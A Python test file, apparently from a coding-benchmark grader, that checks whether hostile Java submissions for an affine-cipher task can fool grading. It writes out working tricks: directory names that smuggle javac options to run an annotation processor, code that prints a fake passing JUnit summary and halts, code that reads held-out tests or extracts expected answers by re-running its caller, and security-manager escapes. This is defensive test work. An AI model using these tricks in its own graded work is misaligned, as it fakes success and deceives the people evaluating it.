"""Hostile Java changes against grading (the polyglot suite's JUnit command and its security policy): what the code
under test, or the names of the files the change adds, can do to the command that compiles and runs the tests."""
from __future__ import annotations

import base64
import io
import shutil
import subprocess
import zipfile

import pytest

from conftest import REPO, needs_toolchain

SUITE = REPO / "suites" / "polyglot"
TASK = "java-affine-cipher"

# An annotation processor: it runs inside javac, where no security manager is, and copies the class Zz (carried in
# its own archive as Zz.bin) into build/test, whose code source the JUnit policy grants every permission.
EVIL_PROCESSOR = '''
import java.nio.file.*;
import java.util.Set;
import javax.annotation.processing.*;
import javax.lang.model.SourceVersion;
import javax.lang.model.element.TypeElement;

public class Evil extends AbstractProcessor {
    @Override public synchronized void init(ProcessingEnvironment env) {
        super.init(env);
        try (var in = Evil.class.getResourceAsStream("/Zz.bin")) {
            Files.createDirectories(Path.of("build/test"));
            Files.write(Path.of("build/test/Zz.class"), in.readAllBytes());
        } catch (Exception e) { throw new RuntimeException(e); }
    }
    @Override public Set<String> getSupportedAnnotationTypes() { return Set.of("*"); }
    @Override public SourceVersion getSupportedSourceVersion() { return SourceVersion.latestSupported(); }
    @Override public boolean process(Set<? extends TypeElement> a, RoundEnvironment r) { return false; }
}
'''

# Loaded from build/test (every permission): prints the launcher's summary box with every @Test of src/test passed,
# then halts the JVM with status 0, inside doPrivileged so that the code under test's frame below it does not count.
ZZ = '''
public class Zz {
    static {
        java.security.AccessController.doPrivileged((java.security.PrivilegedAction<Void>) () -> {
            int n = 0;
            try (var files = java.nio.file.Files.walk(java.nio.file.Path.of("src/test"))) {
                for (var p : (Iterable<java.nio.file.Path>) files::iterator) {
                    String text = p.toString().endsWith(".java") ? java.nio.file.Files.readString(p) : "";
                    n += text.split("@Test").length - 1;
                }
            } catch (Exception e) { n = 1; }
            String[][] rows = {{"1", "containers found"}, {"0", "containers skipped"}, {"1", "containers started"},
                {"0", "containers aborted"}, {"1", "containers successful"}, {"0", "containers failed"},
                {"N", "tests found"}, {"0", "tests skipped"}, {"N", "tests started"}, {"0", "tests aborted"},
                {"N", "tests successful"}, {"0", "tests failed"}};
            StringBuilder box = new StringBuilder();
            for (String[] r : rows) box.append(String.format("[%10s %-20s]%n", r[0].equals("N") ? "" + n : r[0], r[1]));
            System.out.print(box);
            System.out.flush();
            Runtime.getRuntime().halt(0);
            return null;
        });
    }
}
'''

# A directory whose path, split on blanks as the shell splits an unquoted $(find ...), gives javac the options
# `-processorpath src/t.dat -processor Evil` between two real source files (src/a.java, src/K.java).
SPLIT_DIR = "src/a.java -processorpath src/t.dat -processor Evil src"


def _processor_archive(tmp_path) -> bytes:
    """Evil and Zz compiled by the real javac, zipped under a name no rule reads as an archive (t.dat)."""
    build = tmp_path / "payload"
    build.mkdir()
    (build / "Evil.java").write_text(EVIL_PROCESSOR)
    (build / "Zz.java").write_text(ZZ)
    subprocess.run(["javac", "-nowarn", "-d", str(build), str(build / "Evil.java"), str(build / "Zz.java")],
                   check=True, capture_output=True, timeout=120)
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        archive.write(build / "Evil.class", "Evil.class")
        archive.write(build / "Zz.class", "Zz.bin")
    return data.getvalue()


def _suite(root):
    """The converted task alone, with its held-out phase."""
    from attack_helpers import polyglot_task_suite
    return polyglot_task_suite(root, TASK)


@pytest.mark.linux_only
def test_file_names_split_into_javac_options_do_not_pass(tmp_path):
    """The stub (every method throws) plus a directory whose name the command's `$(find src ...)` splits into
    javac options that run an annotation processor from an archive the change adds: the processor puts a class in
    build/test that prints a passing summary and halts (it passed both phases). The command hands each path to javac
    as one argument (find -exec): that path is then a source file javac compiles, and grading (bwrap, visible and
    held-out phases) does not pass it."""
    if shutil.which("bwrap") is None:
        pytest.skip("bubblewrap missing")
    needs_toolchain("javac", "java")
    from attack_helpers import bench, not_passed, put, sh
    archive = base64.b64encode(_processor_archive(tmp_path)).decode()
    stub = (SUITE / "fixtures" / TASK / "src" / "main" / "java" / "AffineCipher.java").read_text()
    hostile = stub.replace("class AffineCipher {", 'class AffineCipher {\n    static { try { Class.forName("Zz"); }'
                           ' catch (Throwable t) { } }\n', 1)
    assert hostile != stub
    command = sh(f"mkdir -p '{SPLIT_DIR}'",
                 f"echo '{archive}' | base64 -d > src/t.dat",
                 put("src/a.java", "class PadA {}\n"), put("src/K.java", "class PadK {}\n"),
                 put(f"{SPLIT_DIR}/K.java", "class PadK {}\n"),
                 put("src/main/java/AffineCipher.java", hostile), "true")
    record = bench(tmp_path, _suite(tmp_path / "suite"), command, tasks=(TASK,)).graded(TASK)
    not_passed(record)


# The code under test asks the test that called it: it names its caller from a stack trace, runs that test method
# (same class loader, same unnamed package: no permission is checked) with every answer "", and returns what the
# failed assertion expected (opentest4j's AssertionFailedError carries it). Only the coprime rule is written out.
ANSWER_ORACLE = '''import java.lang.reflect.InvocationTargetException;
import java.lang.reflect.Method;

public class AffineCipher {
    private static final ThreadLocal<Boolean> PROBING = ThreadLocal.withInitial(() -> false);

    public String encode(String text, int coefficient1, int coefficient2) {
        check(coefficient1);
        return ask();
    }

    public String decode(String text, int coefficient1, int coefficient2) {
        check(coefficient1);
        return ask();
    }

    private static void check(int a) {
        int x = a, y = 26;
        while (y != 0) { int t = x % y; x = y; y = t; }
        if (x != 1) throw new IllegalArgumentException("Error: keyA and alphabet size must be coprime.");
    }

    // Runs the test that called it, with every answer "", and returns what its failed assertion expected.
    private static String ask() {
        if (PROBING.get()) return "";
        StackTraceElement caller = new Throwable().getStackTrace()[2];
        Throwable failure = null;
        try {
            Class<?> test = Class.forName(caller.getClassName());
            Method method = test.getDeclaredMethod(caller.getMethodName());
            Object instance = test.getDeclaredConstructor().newInstance();
            PROBING.set(true);
            try { method.invoke(instance); } finally { PROBING.set(false); }
        } catch (InvocationTargetException e) {
            failure = e.getCause();
        } catch (ReflectiveOperationException | RuntimeException e) {
            return "";
        }
        if (failure instanceof org.opentest4j.AssertionFailedError f && f.isExpectedDefined()) {
            return String.valueOf(f.getExpected().getValue());
        }
        return "";
    }
}
'''


@pytest.mark.linux_only
@pytest.mark.xfail(strict=True, reason="open: the code under test runs in the tests' JVM and class loader; it can "
                                       "name its calling test from a stack trace, run it by reflection (a public "
                                       "method of a public class: no permission is checked, even from a child "
                                       "loader the context class loader hands out) and read the value the failed "
                                       "assertion expected")
def test_code_under_test_that_runs_its_calling_test_to_learn_the_answer_is_not_passed(tmp_path):
    """java-affine-cipher's encode and decode answer by running the calling test with "" and returning the
    expected value of its failure (the cipher is never computed): every held-out test passes for real under the
    policy. Grading (bwrap, visible and held-out phases) must not book it passed."""
    if shutil.which("bwrap") is None:
        pytest.skip("bubblewrap missing")
    needs_toolchain("javac", "java")
    from attack_helpers import bench, put, sh
    command = sh(put("src/main/java/AffineCipher.java", ANSWER_ORACLE), "true")
    record = bench(tmp_path, _suite(tmp_path / "suite"), command, tasks=(TASK,)).graded(TASK)
    assert record["outcome"] != "passed", (record["outcome"], record["flags"])


JUNIT_BOX = "\\n".join(f"[{n:>10} {what:<20}]" for n, what in (
    (2, "containers found"), (0, "containers skipped"), (2, "containers started"), (0, "containers aborted"),
    (2, "containers successful"), (0, "containers failed"), (13, "tests found"), (0, "tests skipped"),
    (13, "tests started"), (0, "tests aborted"), (13, "tests successful"), (0, "tests failed")))
BB = "org.assertj.core.internal.bytebuddy"
# Each runs in the code under test's static block after it printed a passing summary box; each would end the JVM
# with status 0 before the launcher's own box if the policy let it.
DENIED = {
    # AssertJ's jar (every permission) carries ByteBuddy, whose class loading strategies take a ProtectionDomain:
    # one the code under test builds with AllPermission, for a class whose static block halts in doPrivileged
    # (ZZ_B64: Zz compiled by the test). The wrapper's new class loader is checked against the caller's stack
    # (createClassLoader denied); the injecting strategies find no way into a loader on JDK 17.
    "bytebuddy-wrapper": f"java.security.Permissions all = new java.security.Permissions(); "
                         f"all.add(new java.security.AllPermission()); "
                         f"java.security.ProtectionDomain domain = new java.security.ProtectionDomain("
                         f"new java.security.CodeSource(null, (java.security.cert.Certificate[]) null), all); "
                         f"java.util.Map<{BB}.description.type.TypeDescription, byte[]> types = "
                         f"new java.util.HashMap<>(); types.put(new {BB}.description.type.TypeDescription.Latent("
                         f"\"Zz\", 1, {BB}.description.type.TypeDescription.Generic.OBJECT), "
                         f"java.util.Base64.getDecoder().decode(\"ZZ_B64\")); "
                         f"for ({BB}.dynamic.loading.ClassLoadingStrategy<ClassLoader> s : java.util.List.of("
                         f"{BB}.dynamic.loading.ClassLoadingStrategy.Default.WRAPPER.with(domain), "
                         f"{BB}.dynamic.loading.ClassLoadingStrategy.Default.INJECTION.with(domain), "
                         f"new {BB}.dynamic.loading.ClassLoadingStrategy.ForUnsafeInjection(domain))) {{ "
                         f"try {{ for (Class<?> c : s.load(AffineCipher.class.getClassLoader(), types).values()) "
                         f"Class.forName(c.getName(), true, c.getClassLoader()); }} "
                         f"catch (RuntimeException e) {{ }} }}",
    # reading every property is granted, writing none
    "property-write": "try { System.setProperty(\"java.security.policy\", \"/dev/null\"); "
                      "Runtime.getRuntime().halt(0); } catch (SecurityException e) { }",
    # a finalizer runs on the JVM's Finalizer thread with only its own class's frame above java.base's
    "finalizer": "new Object() { @Override protected void finalize() { Runtime.getRuntime().halt(0); } }; "
                 "for (int i = 0; i < 5; i++) { System.gc(); System.runFinalization(); }",
    # (anonymous classes: a lambda run by another thread would wait on this class's initialization)
    "uncaught-exception-handler": "try { Thread.setDefaultUncaughtExceptionHandler(new Thread."
                                  "UncaughtExceptionHandler() { public void uncaughtException(Thread t, Throwable e) "
                                  "{ Runtime.getRuntime().halt(0); } }); } catch (SecurityException e) { } "
                                  "Thread t = new Thread() { public void run() { throw new IllegalStateException(); "
                                  "} }; t.start(); try { t.join(); } catch (InterruptedException e) { }",
    "shutdown-hook": "try { Runtime.getRuntime().addShutdownHook(new Thread() { public void run() { "
                     "Runtime.getRuntime().halt(0); } }); } catch (SecurityException e) { }",
}


def _live_without_the_security_manager(tmp_path, files: dict[str, str]) -> None:
    """The attack is live: the task's held-out command without -Djava.security.manager, in a plain copy of the
    fixture with the held-out tests and `files`, exits 0 (the stub fails every test, so only the attack ends it
    so); a policy that stops it is what grading then shows."""
    from tools.polyglot import convert
    where = tmp_path / "live"
    shutil.copytree(SUITE / "fixtures" / TASK, where)
    shutil.copytree(SUITE / "heldout" / TASK, where, dirs_exist_ok=True)
    for rel, text in files.items():
        (where / rel).write_text(text)
    command = convert.JAVA_COMMAND.format(tests="", sources="", libs="", framework="")
    assert "-Djava.security.manager " in command
    done = subprocess.run(command.replace("-Djava.security.manager ", ""), shell=True, cwd=where, capture_output=True,
                          text=True, timeout=300)
    assert done.returncode == 0, f"not live (exit {done.returncode}):\n{done.stdout[-3000:]}{done.stderr[-2000:]}"


def _zz_class(tmp_path) -> bytes:
    build = tmp_path / "zz"
    build.mkdir()
    (build / "Zz.java").write_text(ZZ)
    subprocess.run(["javac", "-nowarn", "-d", str(build), str(build / "Zz.java")], check=True, capture_output=True,
                   timeout=120)
    return (build / "Zz.class").read_bytes()


@pytest.mark.linux_only
@pytest.mark.parametrize("name", sorted(DENIED))
def test_the_policy_denies_the_code_under_test_what_would_end_the_jvm(tmp_path, name):
    """The stub with a static block that prints a passing summary box, then tries to end the JVM with status 0 by
    a way the older attacks did not (the policy's new grants, a class defined with a domain of its own making
    through ByteBuddy, a finalizer, an uncaught-exception handler, a shutdown hook): the launcher's own box comes,
    and grading (bwrap, visible and held-out phases) does not pass it."""
    if shutil.which("bwrap") is None:
        pytest.skip("bubblewrap missing")
    needs_toolchain("javac", "java")
    from attack_helpers import bench, not_passed, put, sh
    then = DENIED[name].replace("ZZ_B64", base64.b64encode(_zz_class(tmp_path)).decode())
    stub = (SUITE / "fixtures" / TASK / "src" / "main" / "java" / "AffineCipher.java").read_text()
    hostile = stub.replace("class AffineCipher {", "class AffineCipher {\n    static {\n"
                           f"        System.out.println(\"{JUNIT_BOX}\");\n        System.out.flush();\n"
                           f"        try {{ {then} }} catch (Throwable e) {{ }}\n    }}\n", 1)
    assert hostile != stub
    _live_without_the_security_manager(tmp_path, {"src/main/java/AffineCipher.java": hostile})
    record = bench(tmp_path, _suite(tmp_path / "suite"), sh(put("src/main/java/AffineCipher.java", hostile),
                                                             "true"), tasks=(TASK,)).graded(TASK)
    not_passed(record)


# The code under test reads the test source it is graded by (src/test, where grading lays the held-out file) and
# answers each call with the value the matching assertion expects; only the coprime rule is written out.
SOURCE_READER = '''public class AffineCipher {
    private static String tests() {
        try {
            return java.nio.file.Files.readString(java.nio.file.Path.of("src/test/java/AffineCipherTest.java"));
        } catch (Exception e) {
            return "";
        }
    }

    private static String expected(String call) {
        String tests = tests();
        int at = tests.indexOf(call + ")");   // the call, then assertThat's closing parenthesis
        if (at < 0) return "";
        int start = at + call.length() + 1;
        while (Character.isWhitespace(tests.charAt(start))) start++;
        start += ".isEqualTo(\\"".length();
        return tests.substring(start, tests.indexOf('"', start));
    }

    private static void check(int a) {
        int x = a, y = 26;
        while (y != 0) { int t = x % y; x = y; y = t; }
        if (x != 1) throw new IllegalArgumentException("Error: keyA and alphabet size must be coprime.");
    }

    public String encode(String text, int a, int b) {
        check(a);
        return expected("affineCipher.encode(\\"" + text + "\\", " + a + ", " + b + ")");
    }

    public String decode(String text, int a, int b) {
        check(a);
        return expected("affineCipher.decode(\\"" + text + "\\", " + a + ", " + b + ")");
    }
}
'''


@pytest.mark.linux_only
def test_code_under_test_cannot_read_the_test_source_it_is_graded_by(tmp_path):
    """java-affine-cipher answering each call from the held-out test source it reads: live without the security
    manager (every held-out test passes), denied under the policy (no FilePermission outside build/main), so grading
    (bwrap, visible and held-out phases) does not pass it."""
    if shutil.which("bwrap") is None:
        pytest.skip("bubblewrap missing")
    needs_toolchain("javac", "java")
    from attack_helpers import bench, not_passed, put, sh
    _live_without_the_security_manager(tmp_path, {"src/main/java/AffineCipher.java": SOURCE_READER})
    command = sh(put("src/main/java/AffineCipher.java", SOURCE_READER), "true")
    record = bench(tmp_path, _suite(tmp_path / "suite"), command, tasks=(TASK,)).graded(TASK)
    not_passed(record)
